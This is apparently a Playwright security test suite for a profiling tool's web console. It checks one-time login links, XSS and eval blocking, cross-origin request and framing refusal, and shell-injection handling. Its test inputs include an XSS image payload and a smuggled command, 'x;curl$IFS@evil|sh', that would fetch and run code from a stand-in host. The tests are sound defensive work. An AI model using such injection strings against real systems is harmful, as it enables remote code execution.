// Does the page hold when it is attacked? What cannot be seen from the server alone.
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, open, test } from './rig.ts';

test('a link works once, and a tab without one has no access', async ({ page, link, program, context }) => {
  await open(page, link);
  expect(page.url(), 'the code does not stay in the address').not.toContain('code=');
  await page.reload();
  await expect(page.getByRole('navigation'), 'this tab stays').toBeVisible();
  const other = await context.newPage();
  await other.goto(link);
  await expect(other.getByRole('alert')).toContainText('This link was used already', { ignoreCase: true });
  await other.goto(new URL('/', link).href);
  await expect(other.getByRole('alert')).toContainText('This tab has no access');
  // As if pasted into the tab: only the fragment is another one.
  for (const tab of ['a tab without access', 'a tab with access']) {
    await other.goto(await program.link());
    await expect(other.getByRole('navigation'), tab).toBeVisible();
    await expect.poll(() => other.url(), tab).not.toContain('code=');
  }
});

test('text cannot become code, and nobody else is asked', async ({ page, link, watched }) => {
  await open(page, link);
  const tried = await page.evaluate(async () => {
    const failed = async (work: () => unknown) => {
      try {
        await work();
        return false;
      } catch {
        return true;
      }
    };
    return {
      html: await failed(() => {
        document.body.innerHTML = '<img src=x onerror="window.hit=1">';
      }),
      // What is called from here may evaluate text; what the page calls later may not.
      code: await failed(
        () =>
          new Promise((done, fail) => {
            setTimeout(() => {
              try {
                done(new Function('window.hit=1')());
              } catch (error) {
                fail(error);
              }
            });
          }),
      ),
      policy: await failed(() =>
        (
          globalThis as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => void } }
        ).trustedTypes.createPolicy('mine', {}),
      ),
      elsewhere: await failed(() => fetch('http://127.0.0.1:1/')),
      untold: (await fetch('/api/apis/fleetprof.dev/v1alpha1/profilesessions')).status,
    };
  });
  expect(tried).toEqual({ html: true, code: true, policy: true, elsewhere: true, untold: 401 });
  expect(watched.errors.length, 'the browser reports them').toBeGreaterThan(0);
  watched.errors.length = 0;
});

test('an address offers no command of its own to a shell', async ({ page, link }) => {
  const evil = encodeURIComponent('x;curl$IFS@evil|sh');
  await open(page, link, `#/now?namespace=shop&pods=${evil}`);
  const button = page.getByRole('button', { name: 'Profile now' });
  await expect(button).toHaveAccessibleDescription(/^"x;curl\$IFS@evil\|sh" is not a name/);
  const copy = page.getByRole('button', { name: /^Copy/ });
  await expect(copy).toHaveCount(0);
  await page.evaluate((to) => location.assign(to), `#/profile/shop/orders-two?base=${evil}`);
  await expect(page.getByRole('button', { name: 'Save as pprof' })).toBeVisible();
  await expect(copy).toHaveCount(0);
  await page.evaluate((to) => location.assign(to), '#/profile/shop/orders-two');
  await expect(copy).toHaveAccessibleName(
    / orders-two -n shop -o orders-two\.html --kubeconfig \S+ --context fake$/,
  );
});

test('another page cannot read, change or frame the console', async ({
  page,
  link,
  fake,
  watched,
  context,
}) => {
  await open(page, link);
  const site = new URL('/', link).href;
  const evil = createServer((_, answer) =>
    answer.writeHead(200, { 'content-type': 'text/html' }).end('<p>evil'),
  );
  await new Promise<void>((done) => evil.listen(0, '127.0.0.1', done));
  const attacker = await context.newPage();
  await attacker.goto(`http://localhost:${(evil.address() as AddressInfo).port}/`);
  const before = fake.asked.length;
  const read = await attacker.evaluate(async (target) => {
    const sessions = `${target}api/apis/fleetprof.dev/v1alpha1/namespaces/shop/profilesessions`;
    const image = new Image();
    image.src = `${sessions}?dryRun=All`;
    const frame = document.createElement('iframe');
    frame.src = target;
    document.body.append(image, frame);
    const send = (init: RequestInit) =>
      fetch(sessions, init).then(
        (answer) => answer.type,
        () => 'refused',
      );
    const body = JSON.stringify({ kind: 'ProfileSession' });
    const modes = [
      await send({}),
      await send({ method: 'POST', body }),
      await send({ method: 'POST', body, mode: 'no-cors' }),
    ];
    await new Promise((done) => setTimeout(done, 300));
    return modes;
  }, site);
  expect(read).toEqual(['refused', 'refused', 'refused']);
  const asked = fake.asked
    .slice(before)
    .filter((line) => line.includes('POST /apis/fleetprof.dev') || line.includes('dryRun'));
  expect(asked).toEqual([]);
  evil.close();
  watched.errors.length = 0;
});
